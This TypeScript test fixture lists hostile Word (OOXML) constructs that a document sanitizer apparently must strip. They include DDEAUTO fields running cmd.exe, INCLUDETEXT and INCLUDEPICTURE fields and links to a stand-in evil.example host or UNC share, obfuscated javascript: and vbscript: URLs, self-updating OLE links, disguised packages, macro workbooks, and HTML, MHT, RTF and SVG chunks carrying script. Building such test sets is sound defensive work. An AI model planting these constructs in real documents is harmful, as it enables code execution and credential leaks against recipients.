import type { WordFile } from '../package/word-file.fixture.ts'
import { compoundFile } from './compound-file.fixture.ts'

/** Construct that acts by itself, as it stands in a paragraph or between paragraphs of a story. */
export interface HostileConstruct {
  name: string
  /** Content of a paragraph. */
  inline?: string
  /** Content that stands between paragraphs. */
  block?: string
  links?: { id: string; kind: string; target: string }[]
  parts?: NonNullable<WordFile['parts']>
  /** Text a reader saw before, which must still be there. */
  shown?: string
}

const VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
const text = (shown: string): string => `<w:r><w:t>${shown}</w:t></w:r>`
const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const code = (written: string): string =>
  `<w:r><w:instrText xml:space="preserve">${written}</w:instrText></w:r>`
export const field = (instruction: string, result: string): string =>
  mark('begin') + instruction + mark('separate') + text(result) + mark('end')
const drawing = (inner: string, properties = ''): string =>
  `<w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/><wp:docPr id="1" name="p">${properties}</wp:docPr><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">${inner}</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`
const picture = (blip: string, extra = ''): string =>
  drawing(
    `<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p">${extra}</pic:cNvPr><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>${blip}</pic:blipFill><pic:spPr/></pic:pic>`,
  )
const vml = (inner: string, attributes = ''): string =>
  `<w:r><w:pict ${VML}><v:shape id="s" style="width:50pt;height:50pt" ${attributes}>${inner}</v:shape></w:pict></w:r>`
const object = (inner: string, shape = '<v:imagedata r:id="rIdPng"/>'): string =>
  `<w:r><w:object ${VML}><v:shape id="s1" style="width:50pt;height:50pt" o:ole="">${shape}</v:shape>${inner}</w:object></w:r>`
const ole = (progId: string, id: string, type = 'Embed'): string =>
  `<o:OLEObject Type="${type}" ProgID="${progId}" ShapeID="s1" DrawAspect="Content" ObjectID="_1" r:id="${id}"/>`
const file = (
  name: string,
  data: string | Buffer,
  kind: string,
  contentType: string,
  id: string,
): NonNullable<WordFile['parts']>[number] => ({ name: `word/${name}`, data, kind, contentType, id })

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)
/** Stored picture that several constructs show. */
export const storedPicture = file('media/stored.png', PNG, 'image', 'image/png', 'rIdPng')
const OLE = 'application/vnd.openxmlformats-officedocument.oleObject'
const external = (id: string, kind: string, target: string) => ({ id, kind, target })
const link = (name: string, target: string): HostileConstruct => {
  const id = `rIdL${name.replace(/\W/g, '')}`
  return {
    name: `link by ${name}`,
    inline: `<w:hyperlink r:id="${id}">${text(`words of ${name}`)}</w:hyperlink>`,
    links: [external(id, 'hyperlink', target)],
    shown: `words of ${name}`,
  }
}
const activeField = (instruction: string): HostileConstruct => {
  const name = /\w+/.exec(instruction)?.[0] ?? ''
  return {
    name: `field ${name}`,
    inline: field(code(` ${instruction} `), `result of ${name}`),
    shown: `result of ${name}`,
  }
}

export const HOSTILE_CONSTRUCTS: HostileConstruct[] = [
  ...[
    'DDE cmd.exe "/c calc" x',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    'LINK Excel.Sheet.12 "C:\\\\x.xlsx" "A1" \\a \\f 0 \\p',
    'INCLUDEPICTURE "http://evil.example/x.png" \\d',
    'INCLUDETEXT "\\\\\\\\evil\\\\share\\\\x.docx"',
    'IMPORT "http://evil.example/y.png"',
    'DATABASE \\d "C:\\\\x.mdb" \\c "DSN=x"',
    'RD "http://evil.example/z.docx"',
    'AUTOTEXT secret',
    'AUTOTEXTLIST "x"',
    'MACROBUTTON Run "click"',
    'PRINT 27&amp;l',
    'HYPERLINK "javascript:alert(1)"',
    'dDeAuTo cmd x',
  ].map(activeField),
  {
    name: 'instruction split over runs',
    inline: field(code(' DD') + code('EAU') + code('TO cmd x '), 'result of the split'),
    shown: 'result of the split',
  },
  {
    name: 'instruction split over paragraphs',
    block: `<w:p>${mark('begin')}${code(' INCLUDE')}</w:p><w:p>${code('TEXT "http://evil.example/a" ')}${mark('separate')}${text('first line of it')}</w:p><w:p>${text('last line of it')}${mark('end')}</w:p>`,
    shown: 'last line of it',
  },
  {
    name: 'simple field',
    inline: `<w:fldSimple w:instr=" DDEAUTO cmd x ">${text('result of the simple one')}</w:fldSimple>`,
    shown: 'result of the simple one',
  },
  {
    name: 'active field in the instruction of another',
    inline: field(
      code(' IF 1 = 1 ') + field(code(' DDEAUTO cmd x '), 'inner') + code(' "no" '),
      'result of IF',
    ),
    shown: 'result of IF',
  },
  {
    name: 'active field in the result of another',
    inline: `${mark('begin')}${code(' QUOTE x ')}${mark('separate')}${field(code(' DDEAUTO cmd x '), 'nested result')}${mark('end')}`,
    shown: 'nested result',
  },
  {
    name: 'active field around another',
    inline: `${mark('begin')}${code(' INCLUDETEXT "http://evil.example" ')}${mark('separate')}${field(code(' PAGE '), 'page 7')}${mark('end')}`,
    shown: 'page 7',
  },
  {
    name: 'keyword made by a field',
    inline: field(field(code(' QUOTE "DDEAUTO" '), 'DDEAUTO') + code(' cmd x '), 'result of the made one'),
    shown: 'result of the made one',
  },
  {
    name: 'address made by a field',
    inline: field(
      `${code(' HYPERLINK "')}${field(code(' DOCVARIABLE x '), 'file:///c:/x')}${code('" ')}`,
      'words of the made link',
    ),
    shown: 'words of the made link',
  },
  {
    name: 'instruction written as text',
    inline: `${mark('begin')}${text(' DDEAUTO cmd x ')}${mark('separate')}${text('result of text')}${mark('end')}`,
    shown: 'result of text',
  },
  {
    name: 'instruction behind deleted letters',
    inline: `${mark('begin')}<w:del w:id="9" w:author="a"><w:r><w:delInstrText>X</w:delInstrText></w:r></w:del>${code('DDEAUTO cmd x')}${mark('separate')}${text('result of deleting')}${mark('end')}`,
    shown: 'result of deleting',
  },
  {
    name: 'field without a result',
    inline: `${mark('begin')}${code(' DDE cmd x ')}${mark('end')}${text('beside it')}`,
    shown: 'beside it',
  },
  ...(
    [
      ['javascript', 'javascript:alert(1)'],
      ['JaVaScRiPt', 'JaVaScRiPt:alert(1)'],
      ['encoded javascript', 'java%73cript:alert(1)'],
      ['entity', '&amp;#106;avascript:alert(1)'],
      ['tab', 'java&#9;script:alert(1)'],
      ['vbscript', 'vbscript:msgbox(1)'],
      ['file', 'file:///C:/Windows/x.exe'],
      ['UNC', '\\\\evil\\share\\x'],
      ['slashes', '//evil/share/x'],
      ['mhtml', 'mhtml:http://evil.example/x!y'],
      ['data', 'data:text/html;base64,AAAA'],
      ['ms-office', 'ms-word:ofe|u|http://evil.example/x.docm'],
      ['search-ms', 'search-ms:query=x'],
      ['relative path', 'annex/x.exe'],
      ['ftp', 'ftp://evil.example/x'],
      ['attaching mail', 'mailto:a@b.example?attach=C:/x'],
    ] as const
  ).map(([name, target]) => link(name, target)),
  {
    name: 'linked picture',
    inline: picture('<a:blip r:link="rIdPic"/>'),
    links: [external('rIdPic', 'image', 'http://evil.example/p.png')],
  },
  {
    name: 'linked picture with a stored copy',
    inline: picture('<a:blip r:embed="rIdPng" r:link="rIdPicF"/>'),
    links: [external('rIdPicF', 'image', 'file:///C:/p.png')],
  },
  {
    name: 'linked picture on a share, and a second form of it',
    inline: picture(
      '<a:blip r:link="rIdPicU"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:link="rIdPicU"/></a:ext></a:extLst></a:blip>',
    ),
    links: [external('rIdPicU', 'image', '\\\\evil\\share\\p.png')],
  },
  {
    name: 'picture linked by a relationship of another type',
    inline: picture('<a:blip r:link="rIdPicH"/>'),
    links: [external('rIdPicH', 'hyperlink', 'http://evil.example/p.png')],
  },
  {
    name: 'VML picture',
    inline: vml('<v:imagedata r:id="rIdVml" o:title="x"/>'),
    links: [external('rIdVml', 'image', 'http://evil.example/v.png')],
  },
  { name: 'VML picture by address', inline: vml('<v:imagedata src="http://evil.example/v.png"/>') },
  {
    name: 'VML picture with a stored copy',
    inline: vml('<v:imagedata r:id="rIdPng" r:href="rIdVmlH" o:href="http://evil.example/v.png"/>'),
    links: [external('rIdVmlH', 'image', 'http://evil.example/h.png')],
  },
  {
    name: 'VML fill and line',
    inline: vml(
      '<v:fill r:id="rIdFill" type="tile" o:href="http://evil.example/f"/><v:stroke src="\\\\evil\\s"/>',
    ),
    links: [external('rIdFill', 'image', 'http://evil.example/f.png')],
  },
  { name: 'VML link', inline: vml('', 'href="javascript:alert(1)" target="_blank"') },
  {
    name: 'link on a drawing',
    inline: drawing(
      '<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p"><a:hlinkClick r:id="rIdClick"/></pic:cNvPr><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rIdPng"/></pic:blipFill><pic:spPr/></pic:pic>',
      '<a:hlinkClick r:id="rIdClick"/><a:hlinkHover r:id="rIdClick"/>',
    ),
    links: [external('rIdClick', 'hyperlink', 'file:///C:/x.exe')],
  },
  {
    name: 'online video',
    inline: picture(
      '<a:blip r:embed="rIdPng"/>',
      '<a:extLst><a:ext uri="{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}"><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=http://evil.example&gt;" h="1" w="1"/></a:ext></a:extLst>',
    ),
  },
  {
    name: 'linked video',
    inline: picture('<a:blip r:embed="rIdPng"/>', '<a:videoFile r:link="rIdVideo"/>'),
    links: [external('rIdVideo', 'video', 'http://evil.example/v.mp4')],
  },
  {
    name: 'linked object that updates itself',
    inline: object(
      '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="s1" DrawAspect="Content" ObjectID="_1" r:id="rIdOle" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject>',
    ),
    links: [external('rIdOle', 'oleObject', 'file:///C:/x.xlsx!A1')],
  },
  {
    name: 'packaged object',
    inline: object(ole('Package', 'rIdPackage')),
    parts: [
      file(
        'embeddings/o1.bin',
        compoundFile({ '\u0001Ole10Native': Buffer.from('x') }),
        'oleObject',
        OLE,
        'rIdPackage',
      ),
    ],
  },
  {
    name: 'packaged object under a false name',
    inline: object(ole('Equation.3', 'rIdFalse')),
    parts: [
      file(
        'embeddings/o2.bin',
        compoundFile({ '\u0001Ole10Native': Buffer.from('y') }),
        'oleObject',
        OLE,
        'rIdFalse',
      ),
    ],
  },
  {
    name: 'workbook with macros',
    inline: object(ole('Excel.Sheet.8', 'rIdMacro')),
    parts: [
      file(
        'embeddings/o3.bin',
        compoundFile({ Workbook: Buffer.from('x'), _VBA_PROJECT_CUR: Buffer.from('y') }),
        'oleObject',
        OLE,
        'rIdMacro',
      ),
    ],
  },
  {
    name: 'control',
    inline: object('<w:control r:id="rIdControl" w:name="CommandButton1" w:shapeid="s1"/>'),
    parts: [
      file('activeX/activeX1.xml', '<x/>', 'control', 'application/vnd.ms-office.activeX+xml', 'rIdControl'),
    ],
  },
  {
    name: 'macros of a form field',
    inline: `<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="f"/><w:entryMacro w:val="Run"/><w:exitMacro w:val="Run"/></w:ffData></w:fldChar></w:r>${code(' FORMTEXT ')}${mark('separate')}${text('filled in')}${mark('end')}`,
    shown: 'filled in',
  },
  {
    name: 'external part in the text',
    block: '<w:p/><w:altChunk r:id="rIdChunk"/><w:p/>',
    links: [external('rIdChunk', 'aFChunk', 'http://evil.example/x.html')],
  },
  {
    name: 'subdocument',
    block: '<w:p><w:subDoc r:id="rIdSub"/></w:p>',
    links: [external('rIdSub', 'subDocument', 'sub.docx')],
  },
  {
    name: 'web page with script',
    block: '<w:altChunk r:id="rIdHtml"/><w:p/>',
    parts: [
      file(
        'page.html',
        '<html><body onload="x()"><script>alert(1)</script><p>words of the page</p><img src="http://evil.example/p"><a href="JAVA&#115;CRIPT:x">l</a></body></html>',
        'aFChunk',
        'text/html',
        'rIdHtml',
      ),
    ],
  },
  {
    name: 'web archive with script',
    block: '<w:altChunk r:id="rIdMht"/><w:p/>',
    parts: [
      file(
        'page.mht',
        'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset="utf-8"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<p>archived</p><scr=\r\nipt>x</script><img src=3D"http://evil.example/p">\r\n--b\r\nContent-Type: application/x-javascript\r\n\r\nalert(1)\r\n--b--\r\n',
        'aFChunk',
        'message/rfc822',
        'rIdMht',
      ),
    ],
  },
  {
    name: 'rich text with an object',
    block: '<w:altChunk r:id="rIdRtf"/><w:p/>',
    parts: [
      file(
        'page.rtf',
        '{\\rtf1 rich {\\object\\objautlink\\objupdate{\\*\\objclass Package}{\\*\\objdata 0105}{\\result shown}}{\\field{\\*\\fldinst DDEAUTO cmd}{\\fldrslt was}}{\\*\\template http://evil.example/t.dot}}',
        'aFChunk',
        'application/rtf',
        'rIdRtf',
      ),
    ],
  },
  {
    name: 'flat package',
    block: '<w:altChunk r:id="rIdFlat"/><w:p/>',
    parts: [file('flat.xml', '<x/>', 'aFChunk', 'application/xml', 'rIdFlat')],
  },
  {
    name: 'chart linked to a workbook, with a linked picture',
    inline: drawing(
      '<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rIdChart"/>',
    ),
    parts: [
      file(
        'charts/chart1.xml',
        '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><c:chart><c:title><c:tx><c:rich><a:p><a:r><a:rPr><a:hlinkClick r:id="rId3"/></a:rPr><a:t>chart title</a:t></a:r></a:p></c:rich></c:tx></c:title></c:chart><c:spPr><a:blipFill><a:blip r:link="rId2"/></a:blipFill></c:spPr><c:externalData r:id="rId1"><c:autoUpdate val="1"/></c:externalData></c:chartSpace>',
        'chart',
        'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
        'rIdChart',
      ),
      {
        name: 'word/charts/_rels/chart1.xml.rels',
        data: relationships([
          ['rId1', 'oleObject', 'file:///C:/book.xlsx'],
          ['rId2', 'image', 'http://evil.example/c.png'],
          ['rId3', 'hyperlink', 'vbscript:x'],
        ]),
        kind: '',
        contentType: 'application/vnd.openxmlformats-package.relationships+xml',
      },
    ],
  },
  {
    name: 'SVG with script',
    inline: picture(
      '<a:blip r:embed="rIdPng"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rIdSvg"/></a:ext></a:extLst></a:blip>',
    ),
    parts: [
      file(
        'media/drawn.svg',
        '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><script>x()</script><image href="http://evil.example/p.png"/><rect/></svg>',
        'image',
        'image/svg+xml',
        'rIdSvg',
      ),
    ],
  },
  {
    name: 'relationship of an unknown type to the outside',
    inline: `<w:r><w:t>kept</w:t><x:y xmlns:x="urn:example" r:id="rIdOdd"/></w:r>`,
    links: [external('rIdOdd', 'somethingNew', 'http://evil.example/new')],
    shown: 'kept',
  },
]

/** Returns a list of external relationships. */
export function relationships(entries: [id: string, kind: string, target: string][]): string {
  const lines = entries.map(
    ([id, kind, target]) =>
      `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/>`,
  )
  return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${lines.join('')}</Relationships>`
}
